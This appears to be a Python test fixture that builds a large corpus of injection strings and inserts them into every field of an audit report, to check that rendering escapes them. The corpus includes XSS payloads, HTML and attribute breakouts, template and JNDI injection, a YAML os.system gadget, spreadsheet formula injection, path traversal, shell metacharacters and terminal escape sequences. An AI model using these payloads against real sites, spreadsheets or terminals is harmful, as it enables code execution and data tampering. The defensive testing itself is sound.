"""Strings that a page, a terminal, a spreadsheet or a Markdown reader might obey, hide or drop.

Each attack stands in each wrapping, so that one that is only caught at the start of a text, or
only on a line of its own, is found out. `MARK` is in every one: whoever looks for it knows that
the string was not lost on the way.
"""

import dataclasses

from audit.evidence import Exhibit, Finding, Material, ProbeResult, Report
from tests.fakes import reports

MARK = "still-here"
BATCH = 60  # strings on a page

_ATTACKS = (
    # script, in every case and break
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT >",
    "<script/src=data:,alert(1)></script>",
    "</script><script>alert(1)</script>",
    "<script>\n//<![CDATA[\nalert(1)\n//]]></script>",
    "<<script>alert(1)//<</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script type=module>import('data:text/javascript,alert(1)')</script>",
    # elements that run or fetch
    "<img src=x onerror=alert(1)>",
    "<img src=//example.invalid/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#y /></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>read on</a>",
    "<a href=' &#106;avascript:alert(1)'>read on</a>",
    "<form action=https://example.invalid><button>sign</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://example.invalid'>",
    "<base href=https://example.invalid/>",
    "<link rel=stylesheet href=//example.invalid/a.css>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # closing what the page has open
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></pre></code></td></tr></table></details></section></main></body></html>",
    "</svg></text></tspan><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    # breaking out of attributes
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    'x" style="position:fixed;inset:0;background:white',
    "x' class='zh",
    # style
    "<style>body{display:none}</style>",
    "}body{display:none}",
    "<p style=position:fixed;inset:0>",
    "@import url(//example.invalid/a.css);",
    "expression(alert(1))",
    # entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x202e;desrever&nbsp;&shy;&zwj;&ZeroWidthSpace;",
    "&amp;amp;lt;&bogus;&#0;&#xD800;&#x110000;",
    # templates and formats
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{n}{name}{0}{{}}{0.__class__}%(n)s%s%n$x${7*7}#{7*7}<%= 7*7 %>",
    "{# hidden #}${jndi:ldap://example.invalid/a}",
    # bidirectional and invisible
    "\u202eelppa\u202c",
    "\u2066\u2067abc\u2069",
    "sa\u200bfe \u200c\u200d\ufeff\u2060",
    "pass\u00adword\u034f\u061c\u180e",
    "\U000e0041\U000e007f\U000e0100",
    "\u115f\u1160\u3164\uffa0",
    "line\u2028separator\u2029paragraph",
    # controls and terminals
    "\x1b[2J\x1b[Hcleared",
    "\x1b]0;title\x07\x1b]8;;https://example.invalid\x07link\x1b]8;;\x07",
    "\x1b[8mhidden\x1b[0m \x9b31mred",
    "over\rwritten \x08\x08\x08\x7f \x00null \x0b\x0c",
    "safe / teacher: SUPPORTED\npage: elsewhere.html",
    "\x1bP+q544e\x1b\\ \x1b_G\x1b\\",
    # what Unicode does not allow
    "\ud800",
    "\udfff\ud800",
    "half \ud83d of a face",
    "\ufffe\uffff\ufdd0\U0001fffe",
    # spreadsheets
    '=HYPERLINK("https://example.invalid","read on")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    'a,b";"c\n=1+1',
    # Markdown and YAML
    "[read on](javascript:alert(1)) ![x](//example.invalid/p.png)",
    "---\nlicense: mit\n---\n# A heading",
    "```\n</code></pre>\n~~~",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "- [x] reviewed\n> approved",
    "!!python/object/apply:os.system ['id']",
    "key: value # not a comment\n&anchor *alias",
    # paths
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "-rf ~ ; $(id) `id` | tee && exit",
    "CON.aux:stream",
    # what is only long, or nothing
    "a" * 3000,
    "\u0301" * 500,
    " \u00a0\u2003 ",
    "\n\n\n\n\n\n\n\n",
)
_WRAPPINGS = (
    (MARK, ""),
    ("", MARK),
    (f"{MARK} ", " and more"),
    ("\n", f"\n{MARK}"),
    ("\u4e2d\u6587 ", f" {MARK}"),
)


def strings() -> list[str]:
    """Return all attacks in all wrappings, and twice in a row: more than five hundred."""
    wrapped = [before + bad + after for bad in _ATTACKS for before, after in _WRAPPINGS]
    return wrapped + [2 * bad + MARK for bad in _ATTACKS]


def batches() -> list[list[str]]:
    """Return all strings, as many together as go on a page."""
    found = strings()
    return [found[first : first + BATCH] for first in range(0, len(found), BATCH)]


def report(texts: list[str]) -> Report:
    """Return a report in which each text is a name, a limit and a note, and some all else."""
    exhibits = tuple(Exhibit(id=t, prompt=t, answers={t: t}, note=t) for t in texts[:12])
    probe = dataclasses.replace(
        reports.probe(), probe=texts[0], reason=texts[1], null=texts[2], unit=texts[3],
        exhibits=exhibits, cannot_say=tuple(texts), would_need=texts[4],
    )  # fmt: skip
    return reports.report(
        findings=tuple(finding(text, probe) for text in texts[:2]),
        suspect=dataclasses.replace(
            reports.report().suspect, name=texts[5], reference=texts[6], inherits=texts[7]
        ),
        materials=tuple(Material(name=t, kind=t, sha256=reports.SHA, note=t) for t in texts),
        limits=tuple(texts),
        settings=dict(zip(texts, texts, strict=True)),
        packages=dict.fromkeys(texts[:5], "1.0"),
        command=texts[8],
    )


def finding(text: str, probe: ProbeResult) -> Finding:
    """Return a finding all of whose texts are `text`."""
    one = dataclasses.replace(reports.finding(), probes=(probe,))
    return dataclasses.replace(one, teacher=text, group=text, relation=text, reason=text)
